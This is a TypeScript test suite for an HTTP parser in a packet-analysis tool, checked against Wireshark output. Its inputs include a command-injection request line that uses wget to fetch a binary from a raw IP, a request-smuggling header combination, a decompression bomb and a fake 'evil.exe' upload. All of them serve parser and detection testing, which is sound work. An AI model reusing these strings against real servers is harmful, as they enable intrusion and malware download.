import { createHash } from 'node:crypto';
import { brotliCompressSync, deflateRawSync, deflateSync, gzipSync } from 'node:zlib';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { HttpParser, looksLikeHttp, MAX_HEADER_BLOCK } from './http.js';
import { parseUrlEncoded, percentDecode } from './http-body.js';
import type { AppRecord, AppSink, AppValue, Dir, FrameCtx, HttpRequestRecord, HttpResponseRecord } from './types.js';

// ---- test harness ---------------------------------------------------------------------------

const INFO = { stream: 7, client: { addr: '10.0.0.1', port: 40000 }, server: { addr: '10.0.0.2', port: 80 } };
const enc = (s: string): Uint8Array => Buffer.from(s, 'latin1');
const cat = (...parts: (string | Uint8Array)[]): Uint8Array => Buffer.concat(parts.map((p) => (typeof p === 'string' ? enc(p) : p)));
const md5 = (b: Uint8Array | string): string => createHash('md5').update(b).digest('hex');
const sha256 = (b: Uint8Array | string): string => createHash('sha256').update(b).digest('hex');

interface FrameOut {
  fields: [string, AppValue][];
  protocol: string | null;
  info: string[];
}

class Run {
  readonly frames = new Map<number, FrameOut>();
  readonly records: AppRecord[] = [];
  readonly anomalies: string[] = [];
  readonly bodies: { frame: number; dir: Dir; index: number; bytes: Uint8Array }[] = [];
  readonly parser: HttpParser;
  frame = 0;

  constructor(opts: { maxKeepBody?: number; keep?: boolean } = {}) {
    this.parser = new HttpParser(INFO, {
      ...(opts.keep === false ? {} : { onBody: (b, bytes) => this.bodies.push({ ...b, bytes: bytes.slice() }) }),
      ...(opts.maxKeepBody !== undefined ? { maxKeepBody: opts.maxKeepBody } : {}),
    });
  }

  private ctx(frame: number): FrameCtx {
    const out = (): FrameOut => {
      let f = this.frames.get(frame);
      if (!f) this.frames.set(frame, (f = { fields: [], protocol: null, info: [] }));
      return f;
    };
    const sink: AppSink = {
      field: (n, v) => out().fields.push([n, v]),
      columns: (p, i) => {
        out().protocol = p;
        out().info.push(i);
      },
      anomaly: (_l, d) => this.anomalies.push(d),
      record: (r) => this.records.push(r),
    };
    return { frame, tsSec: frame, tsNsec: 0, sink };
  }

  /** Feeds one frame (a new frame number unless given). */
  data(dir: Dir, bytes: Uint8Array | string, frame = ++this.frame): this {
    this.frame = frame;
    this.parser.data(dir, typeof bytes === 'string' ? enc(bytes) : bytes, this.ctx(frame));
    return this;
  }
  gap(dir: Dir, n: number): this {
    this.parser.gap(dir, n, this.ctx(++this.frame));
    return this;
  }
  end(dir: Dir, withCtx = true): this {
    this.parser.end(dir, withCtx ? this.ctx(++this.frame) : null);
    return this;
  }

  /** Values of a field on a frame. */
  vals(frame: number, name: string): AppValue[] {
    return (this.frames.get(frame)?.fields ?? []).filter(([n]) => n === name).map(([, v]) => v);
  }
  info(frame: number): string | undefined {
    return this.frames.get(frame)?.info.join(', ');
  }
  requests(): HttpRequestRecord[] {
    return this.records.filter((r): r is HttpRequestRecord => r.kind === 'http.request');
  }
  responses(): HttpResponseRecord[] {
    return this.records.filter((r): r is HttpResponseRecord => r.kind === 'http.response');
  }
}

// ---- looksLikeHttp --------------------------------------------------------------------------

describe('looksLikeHttp', () => {
  it('accepts known methods followed by a space and HTTP/1. status lines', () => {
    for (const s of [
      'GET / HTTP/1.1\r\n',
      'POST /x',
      'PROPFIND /',
      'VERSION-CONTROL /',
      'HTTP/1.1 200 OK',
      'HTTP/1.0 404',
      '\r\nGET / HTTP/1.1',
    ]) {
      expect(looksLikeHttp(enc(s), 0)).toBe(true);
    }
  });
  it('rejects other protocols, unknown methods and prefixes too short to decide', () => {
    for (const s of [
      'GETX / HTTP/1.1',
      'get / HTTP/1.1',
      'HTTP/2 200',
      'SSH-2.0-OpenSSH',
      '\x16\x03\x01\x02\x00',
      'GE',
      '',
      'FOO / HTTP/1.1',
    ]) {
      expect(looksLikeHttp(enc(s), 0)).toBe(false);
    }
  });
});

// ---- basic request / response ---------------------------------------------------------------

const PDF = cat('%PDF-1.5\n', 'x'.repeat(100), '\n%%EOF\n');
const GET =
  'GET /~regit/r.pdf HTTP/1.1\r\nUser-Agent: Wget/1.20.1 (linux-gnu)\r\nAccept: */*\r\nHost: home.regit.org\r\nConnection: Keep-Alive\r\n\r\n';
const RESP = cat(`HTTP/1.1 200 OK\r\nServer: Apache\r\nContent-Length: ${PDF.length}\r\nContent-Type: application/pdf\r\n\r\n`, PDF);

describe('HttpParser: one exchange (cf. http-get-pdf-download.pcap, checked against tshark 4.0)', () => {
  it('emits the request fields in Wireshark tree order, Info, and a record', () => {
    const r = new Run().data(0, GET);
    expect(r.frames.get(1)!.fields).toEqual([
      ['http', new Uint8Array(0)],
      ['http.request.method', 'GET'],
      ['http.request.uri', '/~regit/r.pdf'],
      ['http.request.version', 'HTTP/1.1'],
      ['http.user_agent', 'Wget/1.20.1 (linux-gnu)'],
      ['http.request.line', 'User-Agent: Wget/1.20.1 (linux-gnu)\r\n'],
      ['http.accept', '*/*'],
      ['http.request.line', 'Accept: */*\r\n'],
      ['http.host', 'home.regit.org'],
      ['http.request.line', 'Host: home.regit.org\r\n'],
      ['http.connection', 'Keep-Alive'],
      ['http.request.line', 'Connection: Keep-Alive\r\n'],
      ['http.request.full_uri', 'http://home.regit.org/~regit/r.pdf'],
      ['http.request', 1],
      ['http.request_number', 1],
    ]);
    expect(r.frames.get(1)!.protocol).toBe('HTTP');
    expect(r.info(1)).toBe('GET /~regit/r.pdf HTTP/1.1 ');
    const [req] = r.requests();
    expect(req).toMatchObject({
      kind: 'http.request',
      stream: 7,
      frame: 1,
      firstFrame: 1,
      method: 'GET',
      host: 'home.regit.org',
      fullUri: 'http://home.regit.org/~regit/r.pdf',
      userAgent: 'Wget/1.20.1 (linux-gnu)',
      body: null,
      params: [],
    });
    expect(req!.headers[0]).toEqual(['User-Agent', 'Wget/1.20.1 (linux-gnu)']);
  });

  it('emits the response on the frame with its last byte, hashes the body streaming, pairs it', () => {
    const r = new Run().data(0, GET).data(1, RESP.subarray(0, 50)).data(1, RESP.subarray(50, 120)).data(1, RESP.subarray(120));
    expect(r.frames.get(2)).toBeUndefined();
    expect(r.frames.get(3)).toBeUndefined();
    expect(r.vals(4, 'http.response.code')).toEqual([200]);
    expect(r.vals(4, 'http.response.code.desc')).toEqual(['OK']);
    expect(r.vals(4, 'http.response.phrase')).toEqual(['OK']);
    expect(r.vals(4, 'http.content_length_header')).toEqual([String(PDF.length)]);
    expect(r.vals(4, 'http.content_length')).toEqual([PDF.length]);
    expect(r.vals(4, 'http.request_in')).toEqual([1]);
    expect(r.vals(4, 'http.response_for.uri')).toEqual(['http://home.regit.org/~regit/r.pdf']);
    expect(r.info(4)).toBe('HTTP/1.1 200 OK  (application/pdf)');
    const [res] = r.responses();
    expect(res).toMatchObject({ frame: 4, firstFrame: 2, requestFrame: 1, code: 200, phrase: 'OK', contentType: 'application/pdf' });
    expect(res!.body).toEqual({
      wireLength: PDF.length,
      length: PDF.length,
      encodings: [],
      mime: 'application/pdf',
      md5: md5(PDF),
      sha1: createHash('sha1').update(PDF).digest('hex'),
      sha256: sha256(PDF),
      filename: 'r.pdf',
      complete: true,
    });
    expect(r.bodies).toEqual([{ frame: 4, dir: 1, index: 0, bytes: new Uint8Array(PDF) }]);
  });

  it('does not hand bodies above maxKeepBody to onBody, but still hashes them', () => {
    const r = new Run({ maxKeepBody: 10 }).data(0, GET).data(1, RESP);
    expect(r.bodies).toEqual([]);
    expect(r.responses()[0]!.body!.md5).toBe(md5(PDF));
  });
});

// ---- chunking property ----------------------------------------------------------------------

/** A stream exercising most paths: pipelining, forms, chunked + gzip, multipart, HEAD, 304, 100-continue, close-delimited. */
function bigExchange(): { c2s: Uint8Array; s2c: Uint8Array; gzBody: Uint8Array } {
  const gzBody = enc('<html>' + 'hello chunked gzip world '.repeat(200) + '</html>');
  const gz = gzipSync(gzBody);
  const half = gz.length >> 1;
  const chunked = cat(
    half.toString(16),
    ';ext=1\r\n',
    gz.subarray(0, half),
    '\r\n',
    (gz.length - half).toString(16),
    '\r\n',
    gz.subarray(half),
    '\r\n0\r\nX-Trailer: 1\r\n\r\n',
  );
  const form = 'user=alice&pass=p%40ss+word&bad=%zz%4';
  const mp = cat(
    '--XyZ\r\nContent-Disposition: form-data; name="comment"\r\n\r\nhi there\r\n',
    '--XyZ\r\nContent-Disposition: form-data; name="file1"; filename="evil.exe"\r\nContent-Type: application/x-msdownload\r\n\r\n',
    'MZ\x90\x00binary\r\n\x00',
    '\r\n--XyZ--\r\n',
  );
  const c2s = cat(
    'GET /a?x=1&y=%41 HTTP/1.1\r\nHost: h\r\n\r\n',
    `POST /login HTTP/1.1\r\nHost: h\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: ${form.length}\r\n\r\n${form}`,
    'HEAD /h HTTP/1.1\r\nHost: h\r\n\r\n',
    'GET /cached HTTP/1.1\r\nHost: h\r\n\r\n',
    `POST /up HTTP/1.1\r\nHost: h\r\nExpect: 100-continue\r\nContent-Type: multipart/form-data; boundary=XyZ\r\nContent-Length: ${mp.length}\r\n\r\n`,
    mp,
    'GET /last HTTP/1.1\r\nHost: h\r\n\r\n',
  );
  const s2c = cat(
    'HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\nContent-Encoding: gzip\r\nContent-Type: text/html\r\n\r\n',
    chunked,
    'HTTP/1.1 302 Found\r\nLocation: /home\r\nSet-Cookie: s=1\r\nContent-Length: 0\r\n\r\n',
    'HTTP/1.1 200 OK\r\nContent-Length: 5000\r\nContent-Type: text/html\r\n\r\n',
    'HTTP/1.1 304 Not Modified\r\nContent-Length: 77\r\n\r\n',
    'HTTP/1.1 100 Continue\r\n\r\n',
    'HTTP/1.1 201 Created\r\nContent-Length: 2\r\n\r\nok',
    'HTTP/1.0 200 OK\r\nContent-Type: text/plain\r\n\r\nuntil close',
  );
  return { c2s, s2c, gzBody };
}

/** Feeds both directions in `cuts`-sized pieces (client stream first, as requests precede responses), all in frame 1. */
function feedChunked(c2s: Uint8Array, s2c: Uint8Array, cuts: (n: number) => number[]): Run {
  const r = new Run();
  for (const [dir, s] of [
    [0, c2s],
    [1, s2c],
  ] as [Dir, Uint8Array][]) {
    let off = 0;
    for (const n of cuts(s.length)) {
      r.data(dir, s.subarray(off, off + n), 1);
      off += n;
    }
    if (off < s.length) r.data(dir, s.subarray(off), 1);
  }
  r.end(1);
  return r;
}

function observable(r: Run): unknown {
  return {
    fields: [...r.frames.values()].flatMap((f) => f.fields),
    records: r.records,
    anomalies: r.anomalies,
    bodies: r.bodies.map((b) => md5(b.bytes)),
  };
}

describe('HttpParser: any chunking gives the same fields, records and bodies', () => {
  const { c2s, s2c, gzBody } = bigExchange();
  const whole = feedChunked(c2s, s2c, () => []);

  it('parses the reference exchange', () => {
    expect(whole.anomalies).toEqual([]);
    const reqs = whole.requests();
    const resps = whole.responses();
    expect(reqs.map((q) => q.uri)).toEqual(['/a?x=1&y=%41', '/login', '/h', '/cached', '/up', '/last']);
    expect(resps.map((q) => q.code)).toEqual([200, 302, 200, 304, 100, 201, 200]);
    // chunked + gzip: the hash is the original's.
    expect(resps[0]!.body).toMatchObject({
      encodings: ['chunked', 'gzip'],
      length: gzBody.length,
      md5: md5(gzBody),
      sha256: sha256(gzBody),
      mime: 'text/html',
      complete: true,
    });
    // HEAD and 304: no body despite Content-Length.
    expect(resps[2]!.body).toBeNull();
    expect(resps[3]!.body).toBeNull();
    // query and form parameters, percent-decoding keeping malformed sequences literal.
    expect(reqs[0]!.params).toEqual([
      { source: 'query', name: 'x', value: '1' },
      { source: 'query', name: 'y', value: 'A' },
    ]);
    expect(reqs[1]!.params).toEqual([
      { source: 'form', name: 'user', value: 'alice' },
      { source: 'form', name: 'pass', value: 'p@ss word' },
      { source: 'form', name: 'bad', value: '%zz%4' },
    ]);
    // multipart: field value, file part with its file name, reported as object 1 after the body (object 0).
    expect(reqs[4]!.params).toEqual([
      { source: 'multipart', name: 'comment', value: 'hi there' },
      { source: 'multipart', name: 'file1', value: '', filename: 'evil.exe' },
    ]);
    const upBodies = whole.bodies.filter((b) => b.dir === 0 && b.bytes.length > 0 && b.index >= 0);
    expect(upBodies.some((b) => Buffer.from(b.bytes).equals(enc('MZ\x90\x00binary\r\n\x00')))).toBe(true);
    // 100 Continue is not the answer: the 201 is, to the POST.
    expect(resps[4]!.requestFrame).toBe(1);
    expect(resps[5]!.requestFrame).toBe(1);
    // close-delimited body completed by end().
    expect(resps[6]!.body).toMatchObject({ length: 11, md5: md5('until close'), complete: true });
  });

  it('feeding 1 byte at a time', () => {
    expect(observable(feedChunked(c2s, s2c, (n) => Array(n).fill(1)))).toEqual(observable(whole));
  });

  it('feeding random chunkings', () => {
    fc.assert(
      fc.property(fc.array(fc.integer({ min: 1, max: 300 }), { minLength: 1, maxLength: 200 }), (sizes) => {
        const got = feedChunked(c2s, s2c, () => sizes);
        expect(observable(got)).toEqual(observable(whole));
      }),
      { numRuns: 60 },
    );
  });
});

// ---- pipelining and Wireshark's numbering ---------------------------------------------------

describe('HttpParser: pipelining', () => {
  it('emits every request completed in one frame, Info concatenated as Wireshark does, FIFO pairing in records', () => {
    const reqs = ['/1', '/2', '/3'].map((u) => `GET ${u} HTTP/1.1\r\nHost: h\r\n\r\n`).join('');
    const r = new Run().data(0, reqs + 'GET /4 HTTP/1.1\r\nHo');
    expect(r.vals(1, 'http.request.uri')).toEqual(['/1', '/2', '/3']);
    expect(r.vals(1, 'http.request_number')).toEqual([1, 2, 3]);
    expect(r.vals(1, 'http.prev_request_in')).toEqual([1, 1]);
    // The 4th request's start line is in this frame, so Wireshark's Info shows it too.
    expect(r.info(1)).toBe('GET /1 HTTP/1.1 GET /2 HTTP/1.1 GET /3 HTTP/1.1 GET /4 HTTP/1.1 ');
    r.data(0, 'st: h\r\n\r\n');
    expect(r.vals(2, 'http.request.uri')).toEqual(['/4']);
    const resp = (n: number): string => `HTTP/1.1 200 OK\r\nContent-Length: 1\r\n\r\n${n}`;
    r.data(1, resp(1) + resp(2) + resp(3) + resp(4));
    // Wireshark 4.0 matches a response only to the latest request without one.
    expect(r.vals(3, 'http.request_in')).toEqual([2]);
    expect(r.vals(3, 'http.response_number')).toEqual([4, 5, 6, 7]);
    expect(r.vals(3, 'http.response_for.uri')).toEqual(Array(4).fill('http://h/4'));
    // The records pair in order.
    expect(r.responses().map((x) => x.requestFrame)).toEqual([1, 1, 1, 2]);
  });
});

// ---- bodies ---------------------------------------------------------------------------------

function respWith(headers: string, body: Uint8Array): Uint8Array {
  return cat(`HTTP/1.1 200 OK\r\n${headers}Content-Length: ${body.length}\r\n\r\n`, body);
}

describe('HttpParser: content codings', () => {
  const text = enc('{"k":"' + 'v'.repeat(3000) + '"}');
  for (const [name, coded] of [
    ['deflate (zlib)', deflateSync(text)],
    ['deflate (raw, as some servers send)', deflateRawSync(text)],
    ['br', brotliCompressSync(text)],
    ['gzip', gzipSync(text)],
  ] as const) {
    it(name, () => {
      const coding = name.split(' ')[0]!;
      const r = new Run().data(0, GET).data(1, respWith(`Content-Type: application/json\r\nContent-Encoding: ${coding}\r\n`, coded));
      const body = r.responses()[0]!.body!;
      expect(body).toMatchObject({
        wireLength: coded.length,
        length: text.length,
        encodings: [coding],
        md5: md5(text),
        mime: 'application/json',
        complete: true,
      });
      expect(r.frames.get(2)!.protocol).toBe('HTTP/JSON');
      expect(r.info(2)).toBe('HTTP/1.1 200 OK , JavaScript Object Notation (application/json)');
    });
  }

  it('a corrupt gzip body: anomaly, no hashes, not complete', () => {
    const r = new Run().data(0, GET).data(1, respWith('Content-Encoding: gzip\r\n', enc('\x1f\x8b\x08\x00garbage')));
    expect(r.responses()[0]!.body).toMatchObject({ length: -1, md5: null, sha1: null, sha256: null, complete: false });
    expect(r.anomalies.some((a) => a.includes('gzip'))).toBe(true);
  });

  it('a decompression bomb stops at the ratio cap', () => {
    const bomb = gzipSync(new Uint8Array(40 * 1024 * 1024));
    const r = new Run().data(0, GET).data(1, respWith('Content-Encoding: gzip\r\n', bomb));
    expect(r.responses()[0]!.body).toMatchObject({ length: -1, md5: null, complete: false });
    expect(r.anomalies.some((a) => a.includes('cap or ratio'))).toBe(true);
  });

  it('an unsupported coding is recorded as not decoded', () => {
    const r = new Run().data(0, GET).data(1, respWith('Content-Encoding: compress\r\n', enc('abc')));
    expect(r.responses()[0]!.body).toMatchObject({ encodings: ['compress'], length: -1, md5: null, complete: false });
  });

  it('Content-Disposition names the file (filename* first)', () => {
    const r = new Run()
      .data(0, GET)
      .data(1, respWith(`Content-Disposition: attachment; filename="a b.txt"; filename*=UTF-8''%E2%82%AC%20rates.txt\r\n`, enc('x')));
    expect(r.responses()[0]!.body!.filename).toBe('€ rates.txt');
  });
});

describe('HttpParser: bodiless responses and close-delimited bodies', () => {
  it('204 then a normal response on the same connection', () => {
    const r = new Run()
      .data(0, 'GET /a HTTP/1.1\r\n\r\nGET /b HTTP/1.1\r\n\r\n')
      .data(1, 'HTTP/1.1 204 No Content\r\nContent-Type: text/plain\r\n\r\nHTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nhi');
    expect(r.responses().map((x) => [x.code, x.body?.length ?? null])).toEqual([
      [204, null],
      [200, 2],
    ]);
    expect(r.info(2)).toBe('HTTP/1.1 204 No Content HTTP/1.1 200 OK ');
  });

  it('a response without length ends at the FIN, on the FIN frame', () => {
    const r = new Run()
      .data(0, 'GET /c HTTP/1.1\r\nHost: h\r\n\r\n')
      .data(1, 'HTTP/1.1 200 OK\r\nContent-Type: text/plain\r\n\r\nhello')
      .data(1, 'world');
    expect(r.responses()).toEqual([]);
    r.end(1);
    expect(r.vals(4, 'http.response.code')).toEqual([200]);
    expect(r.info(4)).toBe('HTTP/1.1 200 OK  (text/plain)');
    expect(r.responses()[0]!.body).toMatchObject({ length: 10, md5: md5('helloworld'), complete: true });
  });

  it('a request without length has no body', () => {
    const r = new Run().data(0, 'POST /x HTTP/1.1\r\n\r\n');
    expect(r.requests()[0]!.body).toBeNull();
  });

  it('101 Switching Protocols stops parsing both directions', () => {
    const r = new Run()
      .data(0, 'GET /ws HTTP/1.1\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n\r\n')
      .data(1, 'HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\n\r\n')
      .data(1, '\x81\x05hello')
      .data(0, 'GET /not-http-anymore HTTP/1.1\r\n\r\n');
    expect(r.records).toHaveLength(2);
    expect(r.anomalies).toEqual([]);
  });
});

describe('HttpParser: header fields', () => {
  it('query, cookies, basic auth, absolute-form targets', () => {
    const r = new Run().data(
      0,
      'GET http://ex.com/p/q.php?a=1&&b HTTP/1.1\r\nHost:   ex.com  \r\nCookie: a=1;b=2; c\r\nAuthorization: Basic dXNlcjpwYXNz\r\nX-Forwarded-For: 1.2.3.4\r\n\r\n',
    );
    expect(r.vals(1, 'http.request.uri.path')).toEqual(['http://ex.com/p/q.php']);
    expect(r.vals(1, 'http.request.uri.query')).toEqual(['a=1&&b']);
    expect(r.vals(1, 'http.request.uri.query.parameter')).toEqual(['a=1', 'b']);
    // Leading whitespace is not part of the value, trailing is (as tshark shows it).
    expect(r.vals(1, 'http.host')).toEqual(['ex.com  ']);
    expect(r.vals(1, 'http.cookie_pair')).toEqual(['a=1', 'b=2', 'c']);
    expect(r.vals(1, 'http.authbasic')).toEqual(['user:pass']);
    expect(r.vals(1, 'http.x_forwarded_for')).toEqual(['1.2.3.4']);
    expect(r.vals(1, 'http.request.full_uri')).toEqual(['http://ex.com/p/q.php?a=1&&b']);
    expect(r.requests()[0]!.fullUri).toBe('http://ex.com/p/q.php?a=1&&b');
  });

  it('a target containing a space is split at the second space, as Wireshark does', () => {
    const r = new Run().data(0, 'GET /shell?cd+/tmp;wget+ http://1.2.3.4/arm HTTP/1.1\r\nHost: h\r\n\r\n');
    expect(r.vals(1, 'http.request.uri')).toEqual(['/shell?cd+/tmp;wget+']);
    expect(r.vals(1, 'http.request.version')).toEqual(['http://1.2.3.4/arm HTTP/1.1']);
  });

  it('bare LF line endings', () => {
    const r = new Run().data(0, 'GET / HTTP/1.0\nHost: h\n\n');
    expect(r.vals(1, 'http.request.line')).toEqual(['Host: h\n']);
  });

  it('a status line without a phrase has no http.response.phrase', () => {
    const r = new Run().data(1, 'HTTP/1.1 999 \r\nContent-Length: 0\r\n\r\n');
    expect(r.vals(1, 'http.response.phrase')).toEqual([]);
    expect(r.vals(1, 'http.response.code.desc')).toEqual(['Unknown (999)']);
  });
});

// ---- malformed input, gaps, caps ------------------------------------------------------------

describe('HttpParser: malformed input', () => {
  it('garbage is an anomaly; the next request line is found again', () => {
    const r = new Run().data(0, '\x00\x01binary junk\r\nmore junk\r\nGET /ok HTTP/1.1\r\n\r\n');
    expect(r.anomalies.some((a) => a.startsWith('not an HTTP request'))).toBe(true);
    expect(r.requests().map((q) => q.uri)).toEqual(['/ok']);
  });

  it('a stray byte before a request line (a keep-alive probe) is skipped', () => {
    const r = new Run().data(0, 'X').data(0, 'GET /p HTTP/1.1\r\n\r\n');
    expect(r.requests().map((q) => q.uri)).toEqual(['/p']);
    expect(r.anomalies).toEqual(['1 bytes before an HTTP start line skipped']);
  });

  it('a bad chunk size ends the message incomplete and resynchronises', () => {
    const r = new Run()
      .data(0, GET)
      .data(1, 'HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\nzz\r\nabc\r\nHTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n');
    expect(r.anomalies.some((a) => a.startsWith('bad chunk size'))).toBe(true);
    expect(r.responses().map((x) => x.body?.complete ?? null)).toEqual([false, null]);
  });

  it('a header line without a colon is an anomaly but the message goes on', () => {
    const r = new Run().data(0, 'GET / HTTP/1.1\r\nno colon here\r\nHost: h\r\n\r\n');
    expect(r.anomalies).toContain('header line without a colon');
    expect(r.vals(1, 'http.host')).toEqual(['h']);
  });

  it('an invalid Content-Length gives up the direction', () => {
    const r = new Run().data(0, 'POST / HTTP/1.1\r\nContent-Length: 12abc\r\n\r\nGET /x HTTP/1.1\r\n\r\n');
    expect(r.anomalies.some((a) => a.startsWith('invalid Content-Length'))).toBe(true);
    expect(r.requests()).toHaveLength(1);
  });

  it('Transfer-Encoding with Content-Length is flagged (smuggling)', () => {
    const r = new Run().data(0, 'POST / HTTP/1.1\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n');
    expect(r.anomalies.some((a) => a.includes('smuggling'))).toBe(true);
    expect(r.requests()[0]!.body).toMatchObject({ wireLength: 5, length: 0, complete: true });
  });

  it('a header block beyond the cap gives up the direction', () => {
    const r = new Run().data(0, 'GET / HTTP/1.1\r\n' + `X-Big: ${'a'.repeat(MAX_HEADER_BLOCK)}\r\n\r\n`);
    expect(r.anomalies.some((a) => a.startsWith('header block longer'))).toBe(true);
    r.data(0, 'GET /after HTTP/1.1\r\n\r\n');
    expect(r.records).toEqual([]);
  });

  it('random bytes never throw and never loop', () => {
    fc.assert(
      fc.property(fc.array(fc.uint8Array({ maxLength: 200 }), { maxLength: 20 }), fc.boolean(), (chunks, withPrefix) => {
        const r = new Run();
        if (withPrefix) r.data(0, 'GET / HTTP/1.1\r\nTransfer-Encoding: chunked\r\n\r\n');
        for (const [i, c] of chunks.entries()) {
          r.data((i & 1) as Dir, c);
          if (i % 7 === 3) r.gap((i & 1) as Dir, c.length + 1);
        }
        r.end(0).end(1, false);
      }),
      { numRuns: 200 },
    );
  });

  it('mutated valid exchanges never throw', () => {
    const { c2s, s2c } = bigExchange();
    fc.assert(
      fc.property(
        fc.integer({ min: 0, max: s2c.length - 1 }),
        fc.integer({ min: 0, max: 255 }),
        fc.integer({ min: 1, max: 64 }),
        (pos, byte, cut) => {
          const m = s2c.slice();
          m[pos] = byte;
          const r = new Run();
          r.data(0, c2s);
          for (let o = 0; o < m.length; o += cut) r.data(1, m.subarray(o, o + cut));
          r.end(1);
        },
      ),
      { numRuns: 150 },
    );
  });
});

describe('HttpParser: gaps', () => {
  it('a gap inside a Content-Length body keeps framing; the body is incomplete and not shown as complete', () => {
    const r = new Run()
      .data(0, GET)
      .data(1, RESP.subarray(0, 100))
      .gap(1, 20)
      .data(1, RESP.subarray(120))
      .data(1, 'HTTP/1.1 404 Not Found\r\nContent-Length: 0\r\n\r\n');
    const res = r.responses();
    expect(res[0]!.body).toMatchObject({ wireLength: PDF.length, length: -1, md5: null, complete: false });
    // Wireshark never completes the reassembly of the first: no fields; the next is fine.
    expect(r.vals(4, 'http.response.code')).toEqual([]);
    expect(r.vals(5, 'http.response.code')).toEqual([404]);
  });

  it('a gap in a header block resynchronises at the next request line', () => {
    const r = new Run().data(0, 'GET /lost HTTP/1.1\r\nHo').gap(0, 100).data(0, 'ost: x\r\n\r\nGET /next HTTP/1.1\r\n\r\n');
    expect(r.requests().map((q) => q.uri)).toEqual(['/next']);
  });

  it('a gap in a chunked body records the message incomplete, then resynchronises', () => {
    const r = new Run()
      .data(0, GET)
      .data(1, 'HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n10\r\nabc')
      .gap(1, 50)
      .data(1, 'HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n');
    expect(r.responses().map((x) => x.body?.complete ?? null)).toEqual([false, null]);
  });

  it('a body cut by the end of the connection is recorded incomplete', () => {
    const r = new Run().data(0, GET).data(1, RESP.subarray(0, 90)).end(1);
    expect(r.responses()[0]!.body).toMatchObject({ complete: false, md5: null });
    expect(r.anomalies).toContain('connection closed inside a message body');
  });
});

describe('percent-decoding', () => {
  it('keeps malformed sequences literal and decodes UTF-8', () => {
    expect(percentDecode('%41%4a%zz%4%', false)).toBe('AJ%zz%4%');
    expect(percentDecode('a+b%20c', true)).toBe('a b c');
    expect(percentDecode('a+b', false)).toBe('a+b');
    expect(percentDecode('%E2%82%AC', false)).toBe('€');
    expect(percentDecode('%FF', false)).toBe('\ufffd');
  });
  it('caps parameter counts and lengths', () => {
    const many = Array.from({ length: 1000 }, (_, i) => `k${i}=v`).join('&');
    expect(parseUrlEncoded(many)).toHaveLength(256);
    expect(parseUrlEncoded(`a=${'x'.repeat(100000)}`)[0]!.value).toHaveLength(1024);
  });
});
